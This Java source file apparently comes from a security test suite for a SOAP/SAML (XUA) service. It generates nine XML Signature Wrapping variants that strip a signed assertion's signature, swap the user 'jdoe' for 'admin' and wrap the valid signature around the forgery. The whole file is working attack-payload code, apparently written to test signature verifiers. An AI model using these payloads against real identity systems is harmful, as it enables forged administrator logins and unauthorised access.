package dev.xdsi.soap.xua;

/** Ways to put a valid signature beside something that it does not cover (XML Signature Wrapping, in the numbers of the literature). */
public enum WrappedAssertion {
    /** The original inside the signature. */
    S15_XSW1,
    /** The original without its signature, then the signature. */
    S16_XSW2,
    /** The forged one before the original. */
    S17_XSW3,
    /** The original inside the forged one. */
    S18_XSW4,
    /** The forged one with the signature, the original without behind it. */
    S19_XSW5,
    /** The original, without its signature, inside the signature that the forged one has. */
    S20_XSW6,
    /** The forged one inside an element that nobody knows. */
    S21_XSW7,
    /** The original in an Object of the signature. */
    S22_XSW8,
    /** The original in the confirmation of the forged one, which has its ID. */
    S23_XSW9;

    /** The forged assertion, without a signature. */
    public static String evil(String good) {
        return unsigned(good).replace(">jdoe<", ">admin<").replaceFirst(" ID=\"[^\"]+\"", " ID=\"_evil\"");
    }

    private static String unsigned(String good) {
        return good.replaceAll("(?s)<ds:Signature .*</ds:Signature>", "");
    }

    private static String signature(String good) {
        return good.replaceAll("(?s).*(<ds:Signature .*</ds:Signature>).*", "$1");
    }

    private static String behindIssuer(String assertion, String content) {
        return assertion.replace("</saml2:Issuer>", "</saml2:Issuer>" + content);
    }

    private static String last(String assertion, String content) {
        return assertion.replace("</saml2:Assertion>", content + "</saml2:Assertion>");
    }

    /** What an attacker puts into {@code wsse:Security} when he has this assertion of another user. */
    public String wrap(AssertionDraft draft) {
        String good = draft.signed();
        String evil = evil(good);
        String signature = signature(good);
        String original = unsigned(good);
        return switch (this) {
            case S15_XSW1 -> behindIssuer(evil, signature.replace("</ds:Signature>", good + "</ds:Signature>"));
            case S16_XSW2 -> last(evil, original + signature);
            case S17_XSW3 -> evil + good;
            case S18_XSW4 -> last(evil, good);
            case S19_XSW5 -> behindIssuer(evil, signature) + original;
            case S20_XSW6 -> behindIssuer(evil, signature.replace("</ds:Signature>", original + "</ds:Signature>"));
            case S21_XSW7 -> "<x:Extensions xmlns:x=\"urn:x\">" + evil + "</x:Extensions>" + good;
            case S22_XSW8 ->
                behindIssuer(
                        evil,
                        signature.replace("</ds:Signature>", "<ds:Object>" + original + "</ds:Object></ds:Signature>"));
            case S23_XSW9 ->
                evil.replace("_evil", draft.id())
                        .replace(
                                "</saml2:SubjectConfirmation>",
                                "<saml2:SubjectConfirmationData>" + good
                                        + "</saml2:SubjectConfirmationData></saml2:SubjectConfirmation>");
        };
    }
}
